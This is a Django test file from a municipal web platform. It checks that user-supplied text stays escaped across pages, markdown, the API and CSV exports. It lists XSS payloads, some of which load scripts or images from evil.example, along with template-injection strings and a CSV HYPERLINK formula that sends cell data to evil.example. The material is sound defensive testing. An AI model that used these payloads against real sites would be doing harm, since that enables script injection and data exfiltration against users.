# SPDX-FileCopyrightText: 2026 Allmende contributors
# SPDX-License-Identifier: EUPL-1.2
"""What people write stays text: on every page, in every table, in every answer."""

import csv
import io
import re
from pathlib import Path
from urllib.parse import urlencode

import pytest

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[2]
MARK = "einhorn"
"""Stands in every payload: whoever finds it on a page has seen the payload arrive."""
PAYLOADS = [
    f"<script>{MARK}(1)</script>",
    f'"><img src=x onerror={MARK}(1)>',
    f"'><svg/onload={MARK}(1)>",
    f"</textarea></title></script><script src=https://evil.example/{MARK}.js></script>",
    f"<a href=javascript:{MARK}(1)>hier</a> [hier](javascript:{MARK}(1)) ![x](https://evil.example/{MARK}.png)",
    f'{MARK} <style>*{{background:url(https://evil.example)}}</style><iframe srcdoc="<script>x</script>">',
    f"{MARK} {{{{ 7|add:98765427 }}}} {{% debug %}} ${{98765427+7}} <%= 98765427+7 %>",
    f'{MARK} " onmouseover="x" autofocus onfocus="x" x="',
]
RAN = "98765434"
"""What a page would show if a template engine had read the payload."""
FORMULAS = ["=1+1", '=HYPERLINK("https://evil.example/"&A1)', "+49 30", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "＝1+1"]


def parameters() -> set[str]:
    """Every parameter that a page reads from its address, found in the code."""
    code = "\n".join(
        path.read_text(encoding="utf-8") for path in (ROOT / "src").rglob("*.py") if "tests" not in path.parts
    )
    named = set(re.findall(r'GET(?:\.get\(|\.getlist\(|\[)\s*"(\w+)"', code))
    fields = set(re.findall(r"^    (\w+) = forms\.\w*Field\(", code, re.MULTILINE))
    return named | fields | {"next", "q", "page", "date_from", "date_to"}


def test_nothing_in_an_address_becomes_part_of_a_page(person, things, routes, visit, active_content):
    attribute, element, handler = PAYLOADS[1], PAYLOADS[3], PAYLOADS[7]
    query = urlencode(dict.fromkeys(parameters(), f"{attribute} {element} {handler}"))
    arrived, wrong = 0, []
    for route in routes:
        if "GET" not in route.methods or route.path.startswith("api/"):
            continue
        visitor = person(route.best_visitor(things)) if "public" not in route.who else person("anonymous")
        response = visit(visitor.browser(), "GET", f"{route.address(things)}?{query}")
        if response.streaming or not response.headers.get("Content-Type", "").startswith("text/html"):
            response.close()
            continue
        html = response.content.decode()
        arrived += MARK in html
        findings = active_content(html) + (["a template ran"] if RAN in html else [])
        wrong += [f"{route.name}: {finding}" for finding in findings]
        if response.status_code >= 500 and route.name != "health":
            wrong.append(f"{route.name}: {response.status_code}")
    assert not wrong, "\n".join(wrong)
    assert arrived >= 5, "hardly any page showed it; this test would prove nothing"


def test_a_question_and_a_comment_stay_text_wherever_they_are_shown(person, town, make, active_content):
    from allmende.modules.assistant.models import Answer, Feedback

    charlie, htmx = person("charlie"), {"hx-request": "true"}
    for payload in PAYLOADS:
        answer = make["answer"](charlie, payload)
        rating = f"/fragen/{answer}/bewertung/"
        charlie.browser().post(rating, {"helpful": "0", "comment": payload})
        assert MARK in Answer.objects.get(pk=answer).question
        assert MARK in Feedback.objects.get(answer=answer).comment
        again = charlie.browser().post("/fragen/", {"q": payload}, headers=htmx).content.decode()
        thanks = charlie.browser().post(rating, {"helpful": "1", "comment": payload}, headers=htmx).content.decode()
        shown = charlie.browser().get("/fragen/").content.decode()
        for html in (shown, again, thanks):
            assert active_content(html) == [], payload
            assert RAN not in html
        assert MARK in again
        assert shown.count(MARK) > again.count(MARK)
        charlie.browser().post("/fragen/neu/")


def test_the_api_gives_a_question_back_as_json_and_never_as_a_page(town, client):
    for payload in PAYLOADS:
        asked = client.post("/api/v1/assistant/answers", {"question": payload}, "application/json")
        read = client.get(f"/api/v1/assistant/answers/{asked.json()['id']}", headers={"accept": "text/html"})
        for response in (asked, read):
            assert response.headers["Content-Type"].startswith("application/json")
            assert response.headers["X-Content-Type-Options"] == "nosniff"
            assert MARK in response.json()["question"]


def is_no_page(response) -> bool:
    """Whether no browser shows it as a page of the house: it is saved, or it is JSON and may not be taken for anything else."""
    kind, sniff = response.headers.get("Content-Type", ""), response.headers.get("X-Content-Type-Options", "")
    as_json = kind.startswith("application/json") and sniff == "nosniff"
    return as_json or "attachment" in response.headers.get("Content-Disposition", "")


@pytest.mark.parametrize("payload", [PAYLOADS[0] + PAYLOADS[1], PAYLOADS[6]], ids=["markup", "template"])
def test_names_that_staff_give_stay_text_on_every_page(payload, person, things, routes, visit, make, active_content):
    """Display names, tokens, jobs and files: whoever may fill them in must not reach the administrator's browser."""
    from allmende.kernel.accounts import service as accounts
    from allmende.kernel.audit.service import record

    dora = person("dora")
    accounts.update_user(person("alice").user, display_name=payload[:120], email="alice@lindental.example", actor=None)
    accounts.create_token(dora.user, name=payload[:80], rights=["audit.read"], days=30)
    make["job"](person("charlie").user, title=payload)
    make["file"](person("charlie").user, name=f"{payload.replace('/', '')}.txt")
    record("town.service.published", actor=dora.user, subject=payload, detail={"title": payload})
    arrived, wrong = set(), []
    for route in routes:
        if "GET" not in route.methods or "public" in route.who or route.name == "jobs:events":
            continue
        response = visit(person("charlie" if route.thing == "file" else "dora").browser(), "GET", route.address(things))
        if response.streaming or not response.headers.get("Content-Type", "").startswith("text/html"):
            assert is_no_page(response), route.name
            response.close()
            continue
        html = response.content.decode()
        arrived |= {route.name} if MARK in html else set()
        wrong += [f"{route.name}: {finding}" for finding in active_content(html)]
        wrong += [f"{route.name}: a template ran"] if RAN in html else []
    assert not wrong, "\n".join(wrong)
    assert arrived >= {"accounts_list", "accounts_account", "accounts_tokens", "audit_list", "jobs:list"}


def test_markdown_of_a_by_law_or_a_page_runs_nothing_and_loads_nothing(town, client, active_content):
    """Texts come from other systems of the town, and what is in them was written by people, too."""
    from allmende.kernel.town.models import Page, StatuteParagraph

    for payload in PAYLOADS:
        text = f"# {payload}\n\n{payload}\n\n- {payload}\n\n> {payload}"
        assert StatuteParagraph.objects.filter(section__statute="hundesteuersatzung").update(text=text)
        assert Page.objects.update(body={"de": text})
        for address in ("/ortsrecht/hundesteuersatzung/", "/seiten/energieberatung/"):
            html = client.get(address).content.decode()
            assert MARK in html, address
            assert active_content(html) == [], payload
            assert RAN not in html


def test_no_cell_of_any_table_starts_a_formula(person, things, routes, visit):
    from allmende.kernel.audit.service import record

    dora = person("dora")
    for formula in FORMULAS:
        record("town.service.published", actor=dora.user, subject=formula, detail={"title": formula})
    tables = {}
    for route in routes:
        if "GET" in route.methods and not route.path.startswith("api/") and route.name != "jobs:events":
            response = dora.browser().get(route.address(things))
            if response.headers.get("Content-Type", "").startswith("text/csv"):
                tables[route.name] = response.getvalue().decode("utf-8-sig")
    assert "audit_export" in tables
    for name, text in tables.items():
        rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
        assert len(rows) > len(FORMULAS), name
        cells = [cell for row in rows for cell in row]
        assert not [
            cell
            for cell in cells
            if re.match(r"[\s\u00a0]*[=+\-@\t\r＝＋－＠]", cell) and not re.fullmatch(r"-?[\d.]+", cell)
        ], name
    assert tables["audit_export"].count("HYPERLINK") >= 1, "the formula never arrived"


def test_tables_are_written_in_one_place_only():
    """A second writer would forget what this one knows."""
    writers = [
        path.relative_to(ROOT).as_posix()
        for path in (ROOT / "src").rglob("*.py")
        if "tests" not in path.parts
        and re.search(r"csv\.(writer|DictWriter)\(|openpyxl|xlsxwriter", path.read_text(encoding="utf-8"))
    ]
    assert writers == ["src/allmende/kernel/web/exports.py"]


def test_html_is_declared_safe_in_few_known_places():
    """`mark_safe` and `|safe` switch the escaping off; each place was read and is listed here with its reason."""
    known = {
        "src/allmende/kernel/web/markdown.py": "nh3 has just cleaned it",
        "src/allmende/kernel/web/templates/web/forms/hint.html": "the help text of a field stands in the code",
        "src/allmende/kernel/town/templatetags/town_text.py": "two constants",
        "src/allmende/modules/applications/editing/views.py": "a picture in which the engine escaped every text",
    }
    pattern = re.compile(r"\bmark_safe\(|\|\s*safe\b|autoescape off|SafeString\(|\.__html__|format_html\(f[\"']")
    found = {
        path.relative_to(ROOT).as_posix()
        for path in (ROOT / "src").rglob("*")
        if path.suffix in (".py", ".html")
        and "tests" not in path.parts
        and pattern.search(path.read_text(encoding="utf-8"))
    }
    assert found == set(known)
